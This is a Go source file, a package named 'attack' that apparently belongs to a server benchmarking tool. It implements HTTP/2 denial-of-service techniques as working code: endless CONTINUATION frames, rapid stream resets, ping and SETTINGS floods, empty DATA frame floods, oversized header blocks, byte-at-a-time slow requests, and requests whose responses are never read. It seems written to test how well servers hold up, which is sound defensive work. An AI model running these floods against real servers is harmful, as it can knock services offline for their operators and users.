package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/toolhost/toolhost/bench/internal/peer"
)

// piece is the largest frame that each server accepts.
const piece = 16 << 10

// client is a client of HTTP/2 that sends what it wants. It writes from one goroutine and reads
// from another.
type client struct {
	framer *http2.Framer
	conn   net.Conn
	ended  context.CancelFunc // called when the connection has ended
	at     peer.Target
	block  bytes.Buffer // a header block
	enc    *hpack.Encoder
	next   uint32 // the next stream

	mu      sync.Mutex
	initial int64 // of streams
	room    int64 // of the connection
	streams map[uint32]int64
}

func onHTTP2(misuse func(context.Context, *client) error) func(context.Context, net.Conn, peer.Target) {
	return func(ctx context.Context, conn net.Conn, at peer.Target) {
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		p := &client{framer: http2.NewFramer(conn, conn), conn: conn, ended: cancel, at: at, next: 1, initial: 65535, room: 65535, streams: map[uint32]int64{}}
		p.enc = hpack.NewEncoder(&p.block)
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return
		}
		if err := p.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}); err != nil {
			return
		}
		_ = misuse(ctx, p) // ends with an error of the connection
	}
}

// read reads what the server sends, until the connection ends.
func (p *client) read() {
	for {
		frame, err := p.framer.ReadFrame()
		if err != nil {
			p.conn.Close() // ends writes, too
			p.ended()
			return
		}
		p.mu.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				for id := range p.streams {
					p.streams[id] += int64(v) - p.initial
				}
				p.initial = int64(v)
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				p.room += int64(f.Increment)
			} else if _, ok := p.streams[f.StreamID]; ok {
				p.streams[f.StreamID] += int64(f.Increment)
			}
		case *http2.RSTStreamFrame:
			delete(p.streams, f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				delete(p.streams, f.StreamID)
			}
		}
		p.mu.Unlock()
	}
}

// headers encodes the headers of a request, and further ones of the given number of bytes.
func (p *client) headers(more int) []byte {
	p.block.Reset()
	fields := [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", p.at.Path}, {":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"}}
	for i := 0; more > 0; i++ {
		fields = append(fields, [2]string{fmt.Sprintf("x-%d", i), strings.Repeat("x", min(more, 2<<10))})
		more -= 2 << 10
	}
	for _, f := range fields {
		_ = p.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer has no errors
	}
	return p.block.Bytes()
}

// begin begins a stream.
func (p *client) begin(more int) (stream uint32, err error) {
	stream = p.next
	p.next += 2
	p.mu.Lock()
	p.streams[stream] = p.initial
	p.mu.Unlock()
	return stream, p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: p.headers(more), EndHeaders: true})
}

func endlessHeaders(_ context.Context, p *client) error {
	go p.read() // ends with the connection
	err := p.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(0)})
	more := append([]byte(nil), p.headers(12<<10)...)
	for err == nil {
		err = p.framer.WriteContinuation(1, false, more)
	}
	return err
}

func largeHeaders(ctx context.Context, p *client) error { return open(ctx, p, 12<<10) }

func openStreams(ctx context.Context, p *client) error { return open(ctx, p, 0) }

// open begins as many streams as the server admits and a few more every time that it has ended
// some.
func open(ctx context.Context, p *client, more int) (err error) {
	go p.read() // ends with the connection
	for err == nil && ctx.Err() == nil {
		p.mu.Lock()
		n := len(p.streams)
		p.mu.Unlock()
		if n < 128 {
			_, err = p.begin(more)
		} else {
			time.Sleep(time.Millisecond)
		}
	}
	return err
}

func resets(_ context.Context, p *client) error {
	go p.read() // ends with the connection
	for {
		stream, err := p.begin(0)
		if err == nil {
			err = p.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
		if err != nil {
			return err
		}
		p.mu.Lock()
		delete(p.streams, stream)
		p.mu.Unlock()
	}
}

func pings(_ context.Context, p *client) (err error) {
	for err == nil { // the answers are not read
		err = p.framer.WritePing(false, [8]byte{})
	}
	return err
}

func settings(_ context.Context, p *client) (err error) {
	for err == nil { // the answers are not read
		err = p.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: piece})
	}
	return err
}

func emptyFrames(_ context.Context, p *client) error {
	go p.read() // ends with the connection
	stream, err := p.begin(0)
	for err == nil {
		err = p.framer.WriteData(stream, false, nil)
	}
	return err
}

// messages begins messages of nearly 4 MiB on many streams and sends all of each but its last byte,
// as far as the server lets it.
func messages(ctx context.Context, p *client) error {
	const size = 4<<20 - 100
	go p.read() // ends with the connection
	data := make([]byte, piece)
	left := map[uint32]int{}
	for ctx.Err() == nil {
		for len(left) < 100 {
			stream, err := p.begin(0)
			if err != nil {
				return err
			}
			p.take(stream, 5)
			if err := p.framer.WriteData(stream, false, binary.BigEndian.AppendUint32([]byte{0}, size)); err != nil {
				return err
			}
			left[stream] = size - 1
		}
		idle := true
		for stream, n := range left {
			p.mu.Lock()
			_, open := p.streams[stream]
			p.mu.Unlock()
			if !open {
				delete(left, stream)
				continue
			}
			if n = min(n, piece); n > 0 && p.take(stream, n) {
				if err := p.framer.WriteData(stream, false, data[:n]); err != nil {
					return err
				}
				left[stream] -= n
				idle = false
			}
		}
		if idle {
			time.Sleep(10 * time.Millisecond)
		}
	}
	return nil
}

// take reports whether the server lets a stream send n bytes now, and counts them.
func (p *client) take(stream uint32, n int) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.room < int64(n) || p.streams[stream] < int64(n) {
		return false
	}
	p.room -= int64(n)
	p.streams[stream] -= int64(n)
	return true
}

// slowly sends a request a byte at a time.
func slowly(ctx context.Context, p *client) error {
	go p.read() // ends with the connection
	var request bytes.Buffer
	if err := http2.NewFramer(&request, nil).WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.headers(8 << 10), EndHeaders: true}); err != nil {
		return err
	}
	drip(ctx, p.conn, request.Bytes())
	return nil
}

// unread sends whole requests and reads nothing.
func unread(_ context.Context, p *client) error {
	if err := p.framer.WriteWindowUpdate(0, 1<<30); err != nil {
		return err
	}
	for {
		stream, err := p.begin(0)
		if err == nil {
			err = p.framer.WriteData(stream, true, p.at.Body)
		}
		if err != nil {
			return err
		}
	}
}
